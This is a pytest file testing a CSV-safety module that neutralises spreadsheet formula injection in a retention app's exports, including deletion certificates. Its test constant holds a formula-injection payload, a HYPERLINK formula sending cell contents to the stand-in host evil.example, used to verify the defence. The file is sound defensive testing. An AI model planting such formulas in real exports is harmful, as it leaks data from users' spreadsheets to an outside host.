from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest

from privacyportal import csvsafe
from retention_app.selectors import Certificate, CertificateLine, certificate_csv

ROOT = Path(__file__).resolve().parent.parent
PLANTED = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_evaluate_is_shown_as_text(start):
    assert csvsafe.safe_cell(start + "1+1") == "'" + start + "1+1"


@pytest.mark.parametrize("value", ["Mozilla/5.0", "a=b", "", 42, -3, None])
def test_ordinary_cells_and_numbers_are_written_unchanged(value):
    assert csvsafe.safe_cell(value) == value


class Echo:
    def write(self, value: str) -> str:
        return value


def test_the_writer_returns_the_line_so_a_streaming_response_can_yield_it():
    assert csvsafe.writer(Echo()).writerow(["@SUM(A1)", 1]) == "'@SUM(A1),1\r\n"


def test_both_writers_neutralise_every_cell():
    buffer = io.StringIO()
    csvsafe.writer(buffer).writerow([PLANTED, "ok"])
    dict_buffer = io.StringIO()
    writer = csvsafe.SafeDictWriter(dict_buffer, ["ua"])
    writer.writeheader()
    writer.writerows([{"ua": PLANTED}])
    for text in (buffer.getvalue(), dict_buffer.getvalue()):
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert "'" + PLANTED in cells and PLANTED not in cells


def test_the_deletion_certificate_csv_neutralises_a_customer_policy_name():
    when = datetime(2026, 1, 1, tzinfo=UTC)
    line = CertificateLine("recordings", PLANTED, 1, "retention", "deleted")
    line.item_ids.append("7")
    text = "".join(certificate_csv(Certificate(1, when, when, [line])))
    assert list(csv.reader(io.StringIO(text)))[1][1] == "'" + PLANTED


def test_no_module_writes_csv_except_through_csvsafe():
    """One place neutralises formulas: a bare csv writer elsewhere would bypass it."""
    bare = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(ROOT))
        for path in ROOT.rglob("*.py")
        if not {".venv", "bench", "tests", "var"} & set(path.relative_to(ROOT).parts)
        and path.name != "csvsafe.py"
        and bare.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
